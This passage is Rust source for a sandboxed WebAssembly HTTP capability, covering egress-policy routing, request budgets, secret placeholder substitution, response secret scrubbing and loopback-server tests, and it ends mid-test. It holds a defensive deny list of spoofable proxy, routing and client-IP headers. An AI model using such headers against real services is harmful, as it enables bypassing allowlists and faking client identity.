//! `wasi:http/outgoing-handler`: the guest's HTTP requests, for connectors
//! granted the `network` binding.
//!
//! This is transport only. Whether a request may go, where it really goes
//! and which addresses it may connect to is asked of the run's
//! [`EgressPolicy`] (`crate::egress`) and applied as answered; no rule of the
//! policy is repeated here. What this module owns: the request and response
//! budgets (count, bytes, timeouts cut to the run's remaining time), the
//! header rules (forbidden headers, `Host` set from the checked origin),
//! secret placeholder substitution (only after the policy admitted the
//! origin, and only where each field's [`super::secrets::FieldPolicy`] allows: a placeholder
//! anywhere else refuses the request as `secret_not_allowed_here`), scrubbing
//! every form of the run's secrets from response headers and bodies
//! (replaced by the placeholder) before the guest reads them, TLS, and a
//! summary of every request for the run timeline without header values or
//! bodies.
//!
//! Host memory: a guest-built header map holds at most [`HTTP_FIELDS_BYTES`];
//! request and response bodies are buffered (to substitute and to scrub) and
//! charged to the run's [`RunBudget`] while the host holds them.

use super::super::budget::{Held, RunBudget};
use super::secrets::{Placement, SecretSet};
use crate::egress::{EgressPolicy, Refusal};
use bytes::Bytes;
use http_body_util::BodyExt;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use wasmtime::component::{Linker, ResourceTable};
use wasmtime_wasi_http::io::TokioIo;
use wasmtime_wasi_http::p2::bindings as wasi_http;
use wasmtime_wasi_http::{
    Error as HttpError, RequestOptions, WasiBody, WasiHttp, WasiHttpCtx, WasiHttpCtxView, WasiHttpHooks,
};

/// The WIT interfaces this capability links (package/interface, no version).
pub(crate) const INTERFACES: &[&str] = &["wasi:http/outgoing-handler", "wasi:http/types"];

/// Per-run HTTP limits.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HttpLimits {
    pub connect_timeout: Duration,
    pub first_byte_timeout: Duration,
    pub total_timeout: Duration,
    pub max_response_bytes: u64,
    pub max_requests: u64,
    /// Response bytes all requests of a run may bring in.
    pub max_total_bytes: u64,
}

impl Default for HttpLimits {
    fn default() -> Self {
        HttpLimits {
            connect_timeout: Duration::from_secs(10),
            first_byte_timeout: Duration::from_secs(30),
            total_timeout: Duration::from_secs(120),
            max_response_bytes: 32 << 20,
            max_requests: 10_000,
            max_total_bytes: 1 << 30,
        }
    }
}

/// One request as the timeline shows it.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct RequestSummary {
    pub method: String,
    pub origin: String,
    pub path: String,
    /// `None` when no response arrived.
    pub status: Option<u16>,
    pub bytes_out: u64,
    pub bytes_in: u64,
    pub duration_ms: u64,
    /// Why the host refused or failed the request, if it did.
    pub refused: Option<String>,
    /// A credential value was substituted into this request (so a 401 to it
    /// says something about the stored credential).
    pub secret_used: bool,
}

/// Counters and summaries shared between the hooks and the request futures.
#[derive(Default)]
struct RequestLog {
    requests: Vec<RequestSummary>,
    bytes_in: u64,
    bytes_out: u64,
    count: u64,
}

/// What the run's requests added up to, read when the run is over.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct HttpUsage {
    pub requests: Vec<RequestSummary>,
    pub bytes_in: u64,
    pub bytes_out: u64,
}

/// The largest request body the host forwards (it is buffered to substitute placeholders).
const MAX_REQUEST_BODY: usize = 8 << 20;

/// The most a guest-built set of HTTP fields (headers, trailers) may hold
/// in host memory (wasmtime's estimate of the map, not the wire size).
pub const HTTP_FIELDS_BYTES: usize = 8 << 10;

/// Headers the guest may not set: hop-by-hop headers, `Host` (the host sets
/// it from the checked origin), and headers that proxies, load balancers and
/// frameworks read as routing or identity facts from a trusted hop (client
/// address, original URL or host, method override). A connector speaks to an
/// API as itself; none of these is needed for that, and each can make a
/// front end route the request somewhere the allowlist never saw or trust
/// an identity it did not check. See also [`FORBIDDEN_PREFIXES`].
const FORBIDDEN: &[&str] = &[
    "connection",
    "keep-alive",
    "proxy-authenticate",
    "proxy-authorization",
    "proxy-connection",
    "te",
    "trailer",
    "transfer-encoding",
    "upgrade",
    "host",
    "http2-settings",
    "forwarded",
    "x-real-ip",
    "via",
    "x-original-url",
    "x-rewrite-url",
    "x-override-url",
    "x-host",
    "x-http-host-override",
    "x-client-ip",
    "client-ip",
    "true-client-ip",
    "cf-connecting-ip",
    "fastly-client-ip",
    "x-cluster-client-ip",
    "x-originating-ip",
    "x-remote-ip",
    "x-remote-addr",
    "x-proxyuser-ip",
    "x-http-method-override",
    "x-http-method",
    "x-method-override",
    "x-accel-redirect",
    "x-sendfile",
    "early-data",
];

/// Prefixes of header families the guest may not set (same rationale as
/// [`FORBIDDEN`]): forwarding facts, original-request facts, CDN and
/// cloud front-end headers, and a proxy's own headers.
const FORBIDDEN_PREFIXES: &[&str] = &[
    "proxy-",
    "x-forwarded-",
    "x-original-",
    "x-envoy-",
    "x-amzn-",
    "x-azure-",
    "x-ms-forwarded-",
    "x-arr-",
    "x-appengine-",
    "x-vercel-",
    "x-middleware-",
    "cf-",
    "x-real-",
    "x-client-",
    "x-remote-",
];

/// Whether the guest may not set header `name` (lowercase).
pub fn is_forbidden(name: &str) -> bool {
    FORBIDDEN.contains(&name) || FORBIDDEN_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// The capability's per-run state: the `wasi:http` context and this run's hooks.
pub struct HttpState {
    ctx: WasiHttpCtx,
    hooks: HttpHooks,
}

impl HttpState {
    /// `secrets` are the run's (placeholders become their values); `deadline`
    /// is the run's wall-clock deadline, which cuts every timeout.
    pub(crate) fn new(
        policy: EgressPolicy,
        limits: HttpLimits,
        secrets: SecretSet,
        deadline: Instant,
        budget: RunBudget,
    ) -> Self {
        let mut ctx = WasiHttpCtx::new();
        ctx.set_field_size_limit(HTTP_FIELDS_BYTES);
        HttpState {
            ctx,
            hooks: HttpHooks {
                policy,
                limits,
                secrets,
                deadline,
                budget,
                log: Arc::default(),
            },
        }
    }

    /// The view `wasi:http`'s host implementation works on.
    pub(crate) fn view<'a>(&'a mut self, table: &'a mut ResourceTable) -> WasiHttpCtxView<'a> {
        WasiHttpCtxView {
            ctx: &mut self.ctx,
            table,
            hooks: &mut self.hooks,
        }
    }

    /// The requests so far (moved out), and the bytes they moved.
    pub(crate) fn take_usage(&self) -> HttpUsage {
        let mut log = self.hooks.log.lock().expect("request log");
        HttpUsage {
            requests: std::mem::take(&mut log.requests),
            bytes_in: log.bytes_in,
            bytes_out: log.bytes_out,
        }
    }
}

/// Link `wasi:http/outgoing-handler` and `wasi:http/types`.
pub(crate) fn add_to_linker<T: Send + 'static>(
    linker: &mut Linker<T>,
    get: fn(&mut T) -> WasiHttpCtxView<'_>,
) -> wasmtime::Result<()> {
    let options = wasi_http::LinkOptions::default();
    wasi_http::http::outgoing_handler::add_to_linker::<T, WasiHttp>(linker, get)?;
    wasi_http::http::types::add_to_linker::<T, WasiHttp>(linker, &options.into(), get)?;
    Ok(())
}

/// The `WasiHttpHooks` of one run.
struct HttpHooks {
    policy: EgressPolicy,
    limits: HttpLimits,
    secrets: SecretSet,
    deadline: Instant,
    budget: RunBudget,
    log: Arc<Mutex<RequestLog>>,
}

impl HttpHooks {
    fn record(&self, s: RequestSummary) {
        let mut log = self.log.lock().expect("request log");
        log.bytes_out += s.bytes_out;
        log.requests.push(s);
    }

    fn refuse(&self, method: &str, origin: &str, path: &str, why: &str, err: HttpError) -> HttpError {
        self.record(RequestSummary {
            method: method.into(),
            origin: origin.into(),
            path: path.into(),
            status: None,
            bytes_out: 0,
            bytes_in: 0,
            duration_ms: 0,
            refused: Some(why.into()),
            secret_used: false,
        });
        err
    }
}

/// The `wasi:http` error code the guest gets for a policy refusal.
fn refusal_error(r: &Refusal) -> HttpError {
    match r {
        Refusal::InvalidUrl | Refusal::OriginNotAllowed(_) => HttpError::HttpRequestDenied,
        Refusal::AddressBlocked { .. } => HttpError::DestinationIpProhibited,
        Refusal::DnsFailed { .. } => HttpError::DestinationNotFound,
        Refusal::DnsTimeout { .. } => HttpError::DnsTimeout,
    }
}

/// A placeholder of this run in a place its field's [`super::secrets::FieldPolicy`] does not
/// allow: the request is refused (`secret_not_allowed_here`).
#[derive(Debug, PartialEq, Eq)]
struct Misplaced;

/// Replace this run's secret placeholders in text at `place`; `used` is set
/// when one was replaced. Tokens of other runs, or of fields without a
/// value, stay as written; a placeholder of this run where its field may not
/// go is [`Misplaced`].
fn substitute(secrets: &SecretSet, value: &str, place: Placement<'_>, used: &AtomicBool) -> Result<String, Misplaced> {
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(i) = rest.find("{{pdpp-secret:") {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        match tail.find("}}") {
            Some(end) => {
                let token = &tail[..end + 2];
                match secrets.resolve_field(token) {
                    Some((field, v)) => {
                        if !secrets.allowed_at(&field, place) {
                            return Err(Misplaced);
                        }
                        used.store(true, Ordering::Relaxed);
                        out.push_str(&v)
                    }
                    None => out.push_str(token),
                }
                rest = &tail[end + 2..];
            }
            None => {
                out.push_str(tail);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    Ok(out)
}

/// A response body the host holds for the guest, charged to the run until
/// the guest has read or dropped it.
struct ChargedBody {
    inner: http_body_util::Full<Bytes>,
    _held: Held,
}

impl hyper::body::Body for ChargedBody {
    type Data = Bytes;
    type Error = HttpError;

    fn poll_frame(
        self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<hyper::body::Frame<Bytes>, HttpError>>> {
        std::pin::Pin::new(&mut self.get_mut().inner)
            .poll_frame(cx)
            .map_err(|never| match never {})
    }

    fn is_end_stream(&self) -> bool {
        self.inner.is_end_stream()
    }

    fn size_hint(&self) -> hyper::body::SizeHint {
        self.inner.size_hint()
    }
}

/// Response headers with every form of the run's secrets replaced by the
/// placeholder (values that are not text are scrubbed as bytes).
fn scrub_headers(secrets: &SecretSet, headers: &mut http::HeaderMap) {
    for value in headers.values_mut() {
        if let Some(clean) = secrets.scrub_response(value.as_bytes())
            && let Ok(v) = http::HeaderValue::from_bytes(&clean)
        {
            *value = v;
        }
    }
}

type SendResult = Result<
    (
        http::Response<WasiBody>,
        Box<dyn Future<Output = Result<(), HttpError>> + Send>,
    ),
    HttpError,
>;

impl WasiHttpHooks for HttpHooks {
    fn is_forbidden_header(&mut self, name: &http::HeaderName) -> bool {
        is_forbidden(name.as_str())
    }

    fn forbidden_header_filter(&mut self) -> wasmtime_wasi_http::ForbiddenHeaderFilter {
        Arc::new(|name| is_forbidden(name.as_str()))
    }

    fn send_request(
        &mut self,
        mut request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        fut: Box<dyn Future<Output = Result<(), HttpError>> + Send>,
    ) -> Box<dyn Future<Output = SendResult> + Send> {
        drop(fut);
        let method = request.method().to_string();
        let uri = request.uri().clone();
        // Kept in the run's request summaries: bounded like any guest string.
        let path = super::super::convert::truncate(uri.path().to_owned(), 512);
        let asked = crate::egress::origin_of_uri(&uri);
        let shown = asked.to_string();

        // The run's budgets, then the policy, before anything leaves the host.
        let (count, bytes_in) = {
            let mut log = self.log.lock().expect("request log");
            log.count += 1;
            (log.count, log.bytes_in)
        };
        if bytes_in >= self.limits.max_total_bytes {
            let e = self.refuse(&method, &shown, &path, "byte_limit", HttpError::ConnectionLimitReached);
            return Box::new(async move { Err(e) });
        }
        if count > self.limits.max_requests {
            let e = self.refuse(
                &method,
                &shown,
                &path,
                "request_limit",
                HttpError::ConnectionLimitReached,
            );
            return Box::new(async move { Err(e) });
        }
        let route = match self.policy.route(&asked) {
            Ok(route) => route,
            Err(refusal) => {
                let e = self.refuse(&method, &shown, &path, refusal.reason(), refusal_error(&refusal));
                return Box::new(async move { Err(e) });
            }
        };

        // Headers: the guest's forbidden ones were already refused by the
        // hooks; placeholders become values now that the origin is allowed.
        let secret_used = Arc::new(AtomicBool::new(false));
        let mut substituted = http::HeaderMap::new();
        for (name, value) in request.headers() {
            if is_forbidden(name.as_str()) {
                continue;
            }
            let v = match value.to_str() {
                Ok(s) => match substitute(&self.secrets, s, Placement::Header(name.as_str()), &secret_used) {
                    Ok(v) => v,
                    Err(Misplaced) => {
                        let e = self.refuse(
                            &method,
                            &shown,
                            &path,
                            "secret_not_allowed_here",
                            HttpError::HttpRequestDenied,
                        );
                        return Box::new(async move { Err(e) });
                    }
                },
                Err(_) => String::new(),
            };
            if let Ok(v) = http::HeaderValue::from_str(&v) {
                substituted.append(name.clone(), v);
            }
        }
        substituted.insert(
            http::header::HOST,
            http::HeaderValue::from_str(&route.target.authority()).unwrap_or(http::HeaderValue::from_static("invalid")),
        );
        *request.headers_mut() = substituted;
        let pq = uri
            .path_and_query()
            .map(|p| p.as_str().to_owned())
            .unwrap_or_else(|| "/".into());
        *request.uri_mut() = http::Uri::builder()
            .path_and_query(pq)
            .build()
            .expect("a path is a valid URI");

        let remaining = self.deadline.saturating_duration_since(Instant::now());
        let opt = options.unwrap_or_default();
        let connect_timeout = opt
            .connect_timeout
            .unwrap_or(self.limits.connect_timeout)
            .min(self.limits.connect_timeout)
            .min(remaining);
        let first_byte_timeout = opt
            .first_byte_timeout
            .unwrap_or(self.limits.first_byte_timeout)
            .min(self.limits.first_byte_timeout)
            .min(remaining);
        let total = self.limits.total_timeout.min(remaining);
        let max_bytes = self
            .limits
            .max_response_bytes
            .min(self.limits.max_total_bytes.saturating_sub(bytes_in));
        let log = self.log.clone();
        let started = Instant::now();
        let secrets = self.secrets.clone();
        let policy = self.policy.clone();
        let budget = self.budget.clone();

        Box::new(async move {
            let summary = |status: Option<u16>, refused: Option<&str>| RequestSummary {
                method: method.clone(),
                origin: shown.clone(),
                path: path.clone(),
                status,
                bytes_out: 0,
                bytes_in: 0,
                duration_ms: started.elapsed().as_millis() as u64,
                refused: refused.map(str::to_owned),
                secret_used: secret_used.load(Ordering::Relaxed),
            };
            let fail = |why: &str, e: HttpError| {
                log.lock().expect("request log").requests.push(summary(None, Some(why)));
                e
            };
            // The body, bounded and charged as it arrives: placeholders in
            // it become values for this allowed origin where declared.
            let (mut head, body) = request.into_parts();
            let Ok(mut held) = budget.hold(0) else {
                return Err(fail(
                    "memory_limit",
                    HttpError::InternalError(Some("memory_limit".into())),
                ));
            };
            let collected = tokio::time::timeout(total, async {
                let mut body = body;
                let mut buf = Vec::new();
                while let Some(frame) = body.frame().await {
                    let frame = frame.map_err(|e| ("request_body_failed", e))?;
                    if let Some(data) = frame.data_ref() {
                        if buf.len() + data.len() > MAX_REQUEST_BODY {
                            let size = (buf.len() + data.len()) as u64;
                            return Err(("request_too_large", HttpError::HttpRequestBodySize(Some(size))));
                        }
                        held.grow(data.len() as u64)
                            .map_err(|_| ("memory_limit", HttpError::InternalError(Some("memory_limit".into()))))?;
                        buf.extend_from_slice(data);
                    }
                }
                Ok(Bytes::from(buf))
            })
            .await;
            let sent = match collected {
                Ok(Ok(b)) => b,
                Ok(Err((why, e))) => return Err(fail(why, e)),
                Err(_) => return Err(fail("total_timeout", HttpError::ConnectionWriteTimeout)),
            };
            let sent = match std::str::from_utf8(&sent) {
                Ok(text) if text.contains("{{pdpp-secret:") => {
                    match substitute(&secrets, text, Placement::Body, &secret_used) {
                        Ok(t) => Bytes::from(t),
                        Err(Misplaced) => {
                            return Err(fail("secret_not_allowed_here", HttpError::HttpRequestDenied));
                        }
                    }
                }
                _ => sent,
            };
            if head.headers.contains_key(http::header::CONTENT_LENGTH) || !sent.is_empty() {
                head.headers
                    .insert(http::header::CONTENT_LENGTH, http::HeaderValue::from(sent.len()));
            }
            let bytes_out = sent.len() as u64;
            log.lock().expect("request log").bytes_out += bytes_out;
            let request = http::Request::from_parts(
                head,
                http_body_util::Full::new(sent)
                    .map_err(|never| match never {})
                    .boxed_unsync(),
            );
            // Connect only to an address the policy checked (no second lookup).
            let addr = match policy.resolve(&route, connect_timeout).await {
                Ok(addrs) => addrs[0],
                Err(refusal) => return Err(fail(refusal.reason(), refusal_error(&refusal))),
            };
            let rewritten = route.rewritten;
            let target = route.target;
            let tcp = match tokio::time::timeout(connect_timeout, tokio::net::TcpStream::connect(addr)).await {
                Ok(Ok(s)) => s,
                Ok(Err(e)) if e.kind() == std::io::ErrorKind::ConnectionRefused => {
                    return Err(fail("connection_refused", HttpError::ConnectionRefused));
                }
                Ok(Err(e)) => return Err(fail("connect_failed", HttpError::Connect(e))),
                Err(_) => return Err(fail("connect_timeout", HttpError::ConnectionTimeout)),
            };
            let io: Box<dyn IoStream> = if target.scheme == "https" {
                let roots = rustls::RootCertStore {
                    roots: webpki_roots::TLS_SERVER_ROOTS.into(),
                };
                let config = rustls::ClientConfig::builder()
                    .with_root_certificates(roots)
                    .with_no_client_auth();
                let connector = tokio_rustls::TlsConnector::from(Arc::new(config));
                let Ok(name) = rustls::pki_types::ServerName::try_from(target.host.clone()) else {
                    return Err(fail("tls_name", HttpError::TlsProtocolError));
                };
                match tokio::time::timeout(connect_timeout, connector.connect(name, tcp)).await {
                    Ok(Ok(s)) => Box::new(s),
                    Ok(Err(e)) => return Err(fail("tls_failed", HttpError::Tls(e))),
                    Err(_) => return Err(fail("connect_timeout", HttpError::ConnectionTimeout)),
                }
            } else {
                Box::new(tcp)
            };
            let (mut sender, conn) = match hyper::client::conn::http1::Builder::new()
                .handshake(TokioIo::new(io))
                .await
            {
                Ok(x) => x,
                Err(e) => return Err(fail("handshake_failed", HttpError::from(e))),
            };
            let driver = tokio::spawn(async move {
                let _ = conn.await;
            });
            let response = match tokio::time::timeout(first_byte_timeout, sender.send_request(request)).await {
                Ok(Ok(r)) => r,
                Ok(Err(e)) => return Err(fail("request_failed", HttpError::from(e))),
                Err(_) => {
                    driver.abort();
                    return Err(fail("first_byte_timeout", HttpError::ConnectionReadTimeout));
                }
            };
            let status = response.status().as_u16();
            // The request is sent: its body is no longer held.
            held.shrink_to(0);
            // The whole body, bounded in size and by the total deadline,
            // charged to the run as it arrives.
            let (parts, body) = response.into_parts();
            let collected = tokio::time::timeout(total, async {
                let mut body = body;
                let mut buf = Vec::new();
                while let Some(frame) = body.frame().await {
                    let frame = frame.map_err(HttpError::from)?;
                    if let Some(data) = frame.data_ref() {
                        if buf.len() as u64 + data.len() as u64 > max_bytes {
                            return Err(HttpError::HttpResponseBodySize(Some(max_bytes)));
                        }
                        held.grow(data.len() as u64)
                            .map_err(|_| HttpError::InternalError(Some("memory_limit".into())))?;
                        buf.extend_from_slice(data);
                    }
                }
                Ok(buf)
            })
            .await;
            driver.abort();
            let bytes = match collected {
                Ok(Ok(b)) => b,
                Ok(Err(e)) => {
                    let why = match &e {
                        HttpError::HttpResponseBodySize(_) => "response_too_large",
                        HttpError::InternalError(Some(m)) if m == "memory_limit" => "memory_limit",
                        _ => "body_failed",
                    };
                    return Err(fail(why, e));
                }
                Err(_) => return Err(fail("total_timeout", HttpError::ConnectionReadTimeout)),
            };
            {
                let mut l = log.lock().expect("request log");
                l.bytes_in += bytes.len() as u64;
                let mut s = summary(Some(status), None);
                s.bytes_in = bytes.len() as u64;
                s.bytes_out = bytes_out;
                l.requests.push(s);
            }
            let mut parts = parts;
            if rewritten {
                declared_origin_links(&policy, &mut parts.headers);
            }
            // What comes back never holds the run's secrets: an endpoint
            // that echoes its input returns the placeholder.
            scrub_headers(&secrets, &mut parts.headers);
            let bytes = match secrets.scrub_response(&bytes) {
                Some(clean) => {
                    if parts.headers.contains_key(http::header::CONTENT_LENGTH) {
                        parts
                            .headers
                            .insert(http::header::CONTENT_LENGTH, http::HeaderValue::from(clean.len()));
                    }
                    clean
                }
                None => bytes,
            };
            held.shrink_to(bytes.len() as u64);
            let body = ChargedBody {
                inner: http_body_util::Full::new(Bytes::from(bytes)),
                _held: held,
            }
            .boxed_unsync();
            let response = http::Response::from_parts(parts, body);
            Ok((
                response,
                Box::new(async { Ok(()) }) as Box<dyn Future<Output = Result<(), HttpError>> + Send>,
            ))
        })
    }
}

/// A rewritten origin's redirects and pagination links name the rewrite
/// target (a gateway, an enterprise install of the provider, a test double); the guest
/// asked for the declared origin and only that one is allowed, so
/// `Location`, `Content-Location` and `Link` are mapped back to it before
/// the guest sees them (the egress policy's reverse rewrite). Other headers
/// and the body are left as the server sent them.
fn declared_origin_links(policy: &EgressPolicy, headers: &mut http::HeaderMap) {
    for name in [
        http::header::LOCATION,
        http::header::CONTENT_LOCATION,
        http::header::LINK,
    ] {
        let values: Vec<http::HeaderValue> = headers.get_all(&name).iter().cloned().collect();
        if values.is_empty() {
            continue;
        }
        let rewrites = policy.rewrites();
        let mapped: Vec<http::HeaderValue> = values
            .iter()
            .map(|v| {
                let text = v.to_str().ok();
                let back = text.and_then(|t| {
                    if name == http::header::LINK {
                        rewrites.reverse_link(t)
                    } else {
                        rewrites.reverse_url(t)
                    }
                });
                back.and_then(|b| http::HeaderValue::from_str(&b).ok())
                    .unwrap_or_else(|| v.clone())
            })
            .collect();
        headers.remove(&name);
        for v in mapped {
            headers.append(&name, v);
        }
    }
}

trait IoStream: tokio::io::AsyncRead + tokio::io::AsyncWrite + Send + Unpin {}
impl<T: tokio::io::AsyncRead + tokio::io::AsyncWrite + Send + Unpin> IoStream for T {}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::egress::{Allowlist, EgressConfig, Origin};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use zeroize::Zeroizing;

    fn secrets() -> SecretSet {
        SecretSet::new(
            [("token".to_string(), false)],
            [("token".to_string(), Zeroizing::new("tok-123".to_string()))],
        )
    }

    #[test]
    fn placeholders_of_this_run_are_substituted_and_others_kept() {
        let s = secrets();
        let used = AtomicBool::new(false);
        let text = format!(
            "Bearer {} and {{{{pdpp-secret:other:token}}}} and {{{{pdpp-secret:",
            s.placeholder("token")
        );
        let out = substitute(&s, &text, Placement::Header("authorization"), &used).unwrap();
        assert_eq!(out, "Bearer tok-123 and {{pdpp-secret:other:token}} and {{pdpp-secret:");
        assert!(used.load(Ordering::Relaxed));
        let unused = AtomicBool::new(false);
        assert_eq!(
            substitute(&s, "no token here", Placement::Body, &unused).unwrap(),
            "no token here"
        );
        assert!(!unused.load(Ordering::Relaxed));
    }

    /// One HTTP/1.1 exchange on loopback: answers `ok` and hands back what it read.
    async fn serve_once() -> (u16, tokio::task::JoinHandle<String>) {
        serve_with(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok".to_vec()).await
    }

    /// One HTTP/1.1 exchange on loopback answered with `response`.
    async fn serve_with(response: Vec<u8>) -> (u16, tokio::task::JoinHandle<String>) {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let task = tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            let mut seen = Vec::new();
            let mut buf = [0u8; 4096];
            loop {
                let n = sock.read(&mut buf).await.unwrap();
                seen.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&seen).to_string();
                if let Some(end) = text.find("\r\n\r\n") {
                    let length = text
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length: ")
                                .map(str::to_owned)
                        })
                        .and_then(|v| v.trim().parse::<usize>().ok())
                        .unwrap_or(0);
                    if seen.len() >= end + 4 + length || n == 0 {
                        break;
                    }
                }
            }
            sock.write_all(&response).await.unwrap();
            String::from_utf8_lossy(&seen).to_string()
        });
        (port, task)
    }

    fn hooks(config: EgressConfig) -> HttpHooks {
        let state = HttpState::new(
            EgressPolicy::new(Allowlist::parse(["https://api.example.com"]), Arc::new(config)),
            HttpLimits::default(),
            secrets(),
            Instant::now() + Duration::from_secs(60),
            RunBudget::new(256 << 20, 1000),
        );
        state.hooks
    }

    fn request(url: &str, auth: &str, body: &str) -> http::Request<WasiBody> {
        http::Request::builder()
            .method("POST")
            .uri(url)
            .header("authorization", auth)
            .body(
                http_body_util::Full::new(Bytes::from(body.to_owned()))
                    .map_err(|never| match never {})
                    .boxed_unsync(),
            )
            .unwrap()
    }

    async fn send(hooks: &mut HttpHooks, req: http::Request<WasiBody>) -> Result<u16, HttpError> {
        let fut = Box::into_pin(hooks.send_request(req, None, Box::new(async { Ok(()) })));
        fut.await.map(|(resp, _)| resp.status().as_u16())
    }

    #[tokio::test]
    async fn a_request_goes_to_the_rewrite_target_with_secrets_substituted_in_headers_and_body() {
        let (port, server) = serve_once().await;
        let mut h = hooks(EgressConfig {
            rewrites: vec![(
                Origin::parse("https://api.example.com").unwrap(),
                Origin::parse(&format!("http://127.0.0.1:{port}")).unwrap(),
            )],
            allow_loopback_for_rewrites: true,
            ..EgressConfig::default()
        });
        h.secrets = secrets().with_policies([(
            "token".to_string(),
            super::super::secrets::FieldPolicy {
                headers: vec!["authorization".into()],
                body: true,
            },
        )]);
        let token = h.secrets.placeholder("token");
        let req = request(
            "https://api.example.com/v1/me?x=1",
            &format!("Bearer {token}"),
            &format!(r#"{{"token":"{token}"}}"#),
        );
        assert_eq!(send(&mut h, req).await.unwrap(), 200);
        let seen = server.await.unwrap();
        assert!(seen.starts_with("POST /v1/me?x=1 HTTP/1.1\r\n"), "{seen}");
        assert!(seen.contains("authorization: Bearer tok-123\r\n"), "{seen}");
        assert!(seen.contains(&format!("host: 127.0.0.1:{port}\r\n")), "{seen}");
        assert!(seen.ends_with(r#"{"token":"tok-123"}"#), "{seen}");
        let usage = HttpState {
            ctx: WasiHttpCtx::new(),
            hooks: h,
        }
        .take_usage();
        let s = &usage.requests[0];
        assert_eq!(
            s.origin, "https://api.example.com:443",
            "the timeline shows the declared origin"
        );
        assert_eq!((s.status, s.secret_used, s.refused.as_deref()), (Some(200), true, None));
        assert_eq!(usage.bytes_in, 2);
    }

    fn rewritten_to(port: u16) -> EgressConfig {
        EgressConfig {
            rewrites: vec![(
                Origin::parse("https://api.example.com").unwrap(),
                Origin::parse(&format!("http://127.0.0.1:{port}")).unwrap(),
            )],
            allow_loopback_for_rewrites: true,
            ..EgressConfig::default()
        }
    }

    #[tokio::test]
    async fn secret_substitution_only_where_declared() {
        // The default policy: the authorization header only, so a
        // placeholder in the body or another header refuses the request.
        let mut h = hooks(EgressConfig::default());
        let token = h.secrets.placeholder("token");
        let err = send(
            &mut h,
            request("https://api.example.com/echo", "none", &format!("q={token}")),
        )
        .await
        .unwrap_err();
        assert!(matches!(err, HttpError::HttpRequestDenied), "{err}");
        let mut req = request("https://api.example.com/echo", "none", "");
        req.headers_mut().insert("x-debug", token.parse().unwrap());
        let err = send(&mut h, req).await.unwrap_err();
        assert!(matches!(err, HttpError::HttpRequestDenied), "{err}");
        let usage = HttpState {
            ctx: WasiHttpCtx::new(),
            hooks: h,
        }
        .take_usage();
        let reasons: Vec<_> = usage.requests.iter().map(|r| r.refused.as_deref()).collect();
        assert_eq!(
            reasons,
            [Some("secret_not_allowed_here"), Some("secret_not_allowed_here")]
        );
    }

    #[tokio::test]
    async fn response_scrubbing_replaces_secrets_in_headers_and_body_before_the_guest_reads_them() {
        let body = format!(
            r#"{{"error":"bad token tok-123","b64":"{}"}}"#,
            base64::Engine::encode(&base64::engine::general_purpose::STANDARD, "tok-123")
        );
        let response = format!(
            "HTTP/1.1 401 Unauthorized\r\nx-echo: Bearer tok-123\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        );
        let (port, server) = serve_with(response.into_bytes()).await;
        let mut h = hooks(rewritten_to(port));
        let token = h.secrets.placeholder("token");
        let req = request("https://api.example.com/v1/me", &format!("Bearer {token}"), "");
        let fut = Box::into_pin(h.send_request(req, None, Box::new(async { Ok(()) })));
        let (resp, _) = fut.await.unwrap();
        server.await.unwrap();
        let echoed = resp.headers()["x-echo"].to_str().unwrap().to_owned();
        assert_eq!(echoed, format!("Bearer {token}"));
        let length: usize = resp.headers()[http::header::CONTENT_LENGTH]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        let read = resp.into_body().collect().await.unwrap().to_bytes();
        let text = String::from_utf8(read.to_vec()).unwrap();
        assert_eq!(length, text.len(), "content-length follows the scrubbed body");
        assert!(!text.contains("tok-123"), "{text}");
        assert_eq!(text.matches(&token).count(), 2, "{text}");
    }

    #[test]
    fn proxy_and_routing_headers_are_forbidden() {
        for name in [
            "x-original-url",
            "x-rewrite-url",
            "x-forwarded-server",
            "x-forwarded-port",
            "x-forwarded-prefix",
            "x-forwarded-for",
            "x-client-ip",
            "true-client-ip",
            "cf-connecting-ip",
            "x-host",
            "x-original-host",
            "x-http-method-override",
            "x-envoy-internal",
            "forwarded",
            "via",
            "host",
        ] {
            assert!(is_forbidden(name), "{name}");
        }
        for name in [
            "authorization",
            "accept",
            "content-type",
            "x-api-version",
            "api-version",
        ] {
            assert!(!is_forbidden(name), "{name}");
        }
    }

    #[tokio::test]
    async fn buffered_bodies_are_charged_to_the_run_budget() {
        let big = "x".repeat(64 << 10);
        let response = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{big}", big.len());
        let (port, server) = serve_with(response.into_bytes()).await;
        let mut h = hooks(rewritten_to(port));
        let budget = RunBudget::new(32 << 10, 100);
        h.budget = budget.clone();
        let err = send(&mut h, request("https://api.example.com/big", "none", ""))
            .await
            .unwrap_err();
        assert!(matches!(err, HttpError::InternalError(_)), "{err}");
        assert!(budget.breached());
        assert_eq!(budget.used(), 0, "nothing stays charged after the request failed");
        let _ = server.await;
    }

    #[test]
    fn a_rewritten_origins_redirects_and_links_name_the_declared_origin() {
        let policy = EgressPolicy::new(
            Allowlist::parse(["https://api.example.com"]),
            Arc::new(EgressConfig {
                rewrites: vec![(
                    Origin::parse("https://api.example.com").unwrap(),
                    Origin::parse("http://127.0.0.1:5555").unwrap(),
                )],
                ..EgressConfig::default()
            }),
        );
        let mut headers = http::HeaderMap::new();
        headers.insert(http::header::LOCATION, "http://127.0.0.1:5555/v1/me".parse().unwrap());
        headers.append(
            http::header::LINK,
